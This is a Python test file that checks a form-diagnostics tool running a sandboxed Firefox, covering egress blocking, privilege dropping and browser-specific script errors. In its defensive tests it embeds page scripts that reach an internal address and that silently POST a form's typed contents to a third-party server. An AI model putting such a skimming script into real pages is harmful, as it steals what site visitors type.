"""The second browser: a real Firefox as it is installed, confined like Chromium; and the row where there is none."""

from __future__ import annotations

import asyncio
import ipaddress
import os
import tempfile
from collections.abc import Iterator
from dataclasses import replace
from pathlib import Path
from typing import Any

import pytest

from diagnostics.finding import Finding, UnknownReason, Verdict
from diagnostics.forms import visitors
from diagnostics.forms.browser import run
from diagnostics.forms.browser.judge import findings_of
from diagnostics.forms.browser.run import NO_PLAYWRIGHT, missing_parts, try_form
from diagnostics.forms.browser.tried import CHROMIUM, FIREFOX, Job, Tried
from diagnostics.forms.form import Form, Wishes
from diagnostics.forms.visitors import as_other_visitors
from diagnostics.network import EgressPolicy, Network
from diagnostics.network.proxy import EgressProxy
from tests.integration.test_form_canary import LOOPBACK, PAGE, THANKS, PlayedForms, context, looked
from tests.servers.pages import Pages

_MISSING = missing_parts(CHROMIUM) or missing_parts(FIREFOX)
needs_firefox = pytest.mark.skipif(bool(_MISSING), reason=_MISSING or "-")
needs_playwright = pytest.mark.skipif(missing_parts() == NO_PLAYWRIGHT, reason=NO_PLAYWRIGHT)
# What Chromium alone has: who asks it of another browser gets an exception.
BRANDS = """<script>document.forms[0].addEventListener('submit', (event) => {
  event.preventDefault();
  const brand = navigator.userAgentData.brands[0].brand;
  fetch('/send', {method: 'POST', body: new FormData(event.target), headers: {'X-Brand': brand}})
    .then(() => { event.target.outerHTML = '<p role=status>Thank you</p>'; });
});</script>"""
SOUND = Finding(
    "form.browser.works", Verdict.PASS, "wpforms:7", "It works.", {"form": "wpforms:7", "browser": "Chromium 156.0"}
)


@pytest.fixture
def site() -> Iterator[PlayedForms]:
    with Pages({"/": PAGE, "/send": THANKS}) as pages:
        yield PlayedForms(pages)


def as_others(site: PlayedForms, findings: list[Finding], **more: Any) -> dict[str, Finding]:
    at = replace(context(site, **more), findings=findings)
    return {each.code.removeprefix("form.visitors."): each for each in asyncio.run(as_other_visitors(at))}


def tried(url: str, network: Network | None = None, **wishes: Any) -> Tried:
    given = {"token": "tok", "timeout_s": 40.0, "patience_s": 2.0, "browser": FIREFOX, **wishes}
    return asyncio.run(try_form(Job(url, **given), network or Network(EgressPolicy(LOOPBACK))))


# -- the row, where no look is to be had -------------------------------------


def test_where_the_path_names_no_firefox_the_row_says_so_and_what_to_install(
    site: PlayedForms, monkeypatch: pytest.MonkeyPatch, tmp_path: Path
) -> None:
    monkeypatch.setenv("PATH", str(tmp_path))
    row = as_others(site, [SOUND])["one_browser"]
    assert (row.verdict, row.reason) == (Verdict.UNKNOWN, UnknownReason.NOT_CONFIGURED)
    assert "installed" in row.summary and row.remedy is not None
    if missing_parts() != NO_PLAYWRIGHT:
        assert "no Firefox is installed" in row.summary and "apt-get install firefox-esr" in row.summary
    assert site.armed == []


def test_a_form_that_takes_no_test_entry_now_is_said_so_in_words(site: PlayedForms) -> None:
    site.refuses = "not_on"
    form = Form("wpforms", "7", "Contact", pages=(f"{site.url}/",))
    [found], _ = asyncio.run(visitors._in_the_second(context(site), form, Wishes(), "Chromium"))
    assert (found.code, found.verdict) == ("form.visitors.unseen", Verdict.UNKNOWN)
    assert "it takes no entries now" in found.summary and found.remedy and "Publish it" in found.remedy.text


@needs_playwright
def test_a_firefox_that_does_not_start_is_told_from_one_that_is_not_there(
    site: PlayedForms, monkeypatch: pytest.MonkeyPatch
) -> None:
    with tempfile.TemporaryDirectory() as folder:  # one that a user without rights may look into, as tmp_path is not
        Path(folder).chmod(0o755)
        wrapper = Path(folder, "firefox")
        wrapper.write_text("#!/bin/sh\necho 'command not found: snap' >&2\nexit 1\n")
        wrapper.chmod(0o755)
        monkeypatch.setenv("PATH", folder)
        rows = as_others(site, [SOUND])
    assert "did not start" in rows["one_browser"].summary and "snap" in rows["one_browser"].summary
    assert rows["one_browser"].reason is UnknownReason.NOT_CONFIGURED and "second_browser" not in rows


# -- a real one ----------------------------------------------------------------


@needs_firefox
def test_a_sound_form_is_sent_in_firefox_with_a_test_entry_of_its_own(site: PlayedForms) -> None:
    rows = as_others(site, looked(context(site)))
    assert rows["second_browser"].verdict is Verdict.PASS and "Firefox" in rows["second_browser"].summary
    assert "one_browser" not in rows
    first, second = site.pages.posts()
    assert [first.headers["aftercare-canary"], second.headers["aftercare-canary"]] == site.armed
    assert "Firefox/" in second.headers["user-agent"] and "Firefox/" not in first.headers["user-agent"]


@needs_firefox
def test_a_script_that_uses_what_chromium_alone_has_is_named_with_its_error(site: PlayedForms) -> None:
    site.pages.pages["/"] = PAGE + BRANDS
    [works, *_] = looked(context(site))
    assert works.code == "form.browser.works", works.summary
    fault = as_others(site, [works])["breaks_in_second"]
    assert fault.verdict is Verdict.FAIL and "Chromium" in fault.summary and "not in Firefox" in fault.summary
    assert "navigator.userAgentData is undefined" in fault.summary
    assert fault.evidence["cause_code"] == "form.browser.script_error" and fault.evidence["log"]["console"]
    assert fault.remedy is not None and "userAgentData" in fault.remedy.copy
    assert len(site.pages.posts()) == 1  # Chromium's


@needs_firefox
def test_where_the_offices_own_address_gets_the_tests_mails_firefox_fills_and_sends_nothing(site: PlayedForms) -> None:
    site.wishes = {"mails": "marked"}
    row = as_others(site, [SOUND], by_hand=False)["second_browser"]
    assert row.verdict is Verdict.PASS and "not sent" in row.summary
    assert site.armed == [] and site.pages.posts() == []


@needs_firefox
def test_firefox_calls_nobody_by_itself_and_reaches_what_is_local_by_the_proxy_alone(
    site: PlayedForms, monkeypatch: pytest.MonkeyPatch
) -> None:
    asked: set[str] = set()
    talk = EgressProxy._talk

    class Noting:  # what is asked before the proxy's credential is known too
        def __init__(self, reader: asyncio.StreamReader) -> None:
            self.reader = reader

        async def readuntil(self, end: bytes) -> bytes:
            head = await self.reader.readuntil(end)
            asked.add("/".join(head.split()[1].decode().split("/")[:3]))
            return head

        async def read(self, most: int) -> bytes:
            return await self.reader.read(most)

    monkeypatch.setattr(EgressProxy, "_talk", lambda proxy, reader, writer: talk(proxy, Noting(reader), writer))
    with Pages({"/secret": "inside"}, address="127.0.0.7") as inner:
        site.pages.pages["/"] = PAGE + f"<script>fetch('{inner.url}/secret', {{mode: 'no-cors'}});</script>"
        came = tried(f"{site.url}/", Network(EgressPolicy((ipaddress.ip_network("127.0.0.1/32"),))))
        assert (inner.asked, came.message_kind) == ([], "thanks"), came.why
    assert asked == {site.url, inner.url}
    assert any("egress policy" in each.failed for each in came.requests)


@needs_firefox
def test_the_token_goes_with_the_forms_own_post_alone_and_what_is_typed_to_nobody_else(site: PlayedForms) -> None:
    with Pages({"/listen": "ok"}) as stranger:
        listens = f"""<script>document.forms[0].addEventListener('submit', (event) => {{
          event.preventDefault();
          const typed = Object.fromEntries(new FormData(event.target));
          fetch('{stranger.url}/listen', {{method: 'POST', mode: 'no-cors', body: JSON.stringify(typed)}});
          fetch('/beat', {{method: 'POST', body: 'beat=1'}}).catch(() => 0).then(() =>
            fetch('/send', {{method: 'POST', body: new URLSearchParams(typed)}}))
            .then(() => {{ event.target.outerHTML = '<p role=status>Thank you</p>'; }});
        }});</script>"""
        site.pages.pages |= {"/": PAGE + listens, "/beat": "ok"}
        came = tried(f"{site.url}/")
        assert stranger.posts() == []
    assert (came.message_kind, came.posted_status) == ("thanks", 200), came.why
    assert [each.path for each in site.pages.asked if "aftercare-canary" in each.headers] == ["/send"]
    assert any("what was typed was kept" in each for each in came.notes)
    assert all("proxy-authorization" not in each.headers for each in site.pages.asked)


@needs_firefox
def test_scripts_that_listen_for_changes_hear_what_is_typed_in_firefox(site: PlayedForms) -> None:
    heard = """<script>const heard = {}, form = document.forms[0];
      form.addEventListener('change', (e) => { heard[e.target.name] = e.target.value; });
      form.addEventListener('submit', (e) => { if (!heard.who || !heard.words) e.preventDefault(); });</script>"""
    site.pages.pages["/"] = PAGE + heard
    came = tried(f"{site.url}/")
    assert (came.message_kind, came.posted_status, len(site.pages.posts())) == ("thanks", 200, 1), came.why


@needs_firefox
def test_it_runs_without_rights_or_secrets_and_leaves_nothing_behind(
    site: PlayedForms, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("AFTERCARE_SECRET", "hunter2")
    seen: dict[str, str] = {}
    own, look = Path(), run.Tree.look

    def watching(tree: run.Tree) -> int:
        nonlocal own
        held = look(tree)
        for pid in tree._known:
            place = Path(f"/proc/{pid}")
            try:
                command = (place / "cmdline").read_bytes()
                if b"--profile" in command:
                    own = Path(command.split(b"--profile\0")[1].split(b"\0")[0].decode())
                if b"-contentproc" in command or b"--profile" in command:
                    seen["uid"] = (place / "status").read_text().split("Uid:")[1].split()[0]
                    seen["environment"] = seen.get("environment", "") + str((place / "environ").read_bytes())
            except OSError:
                continue
        return held

    monkeypatch.setattr(run.Tree, "look", watching)
    came = tried(f"{site.url}/")
    assert came.reached == "answered" and came.browser.startswith("Firefox "), came.why
    assert "hunter2" not in seen["environment"]
    assert os.geteuid() != 0 or seen["uid"] != "0"
    assert came.peak_mib * 2**20 < run.MEMORY_BYTES
    assert own.name == "profile" and not own.parent.exists()


@needs_firefox
def test_a_page_that_may_not_be_reached_is_unknown_in_firefox_too(site: PlayedForms) -> None:
    came = tried(f"{site.url}/", Network(EgressPolicy()))
    [finding] = findings_of(came)
    assert (finding.verdict, finding.reason) == (Verdict.UNKNOWN, UnknownReason.NOT_ALLOWED)
    assert site.pages.asked == []
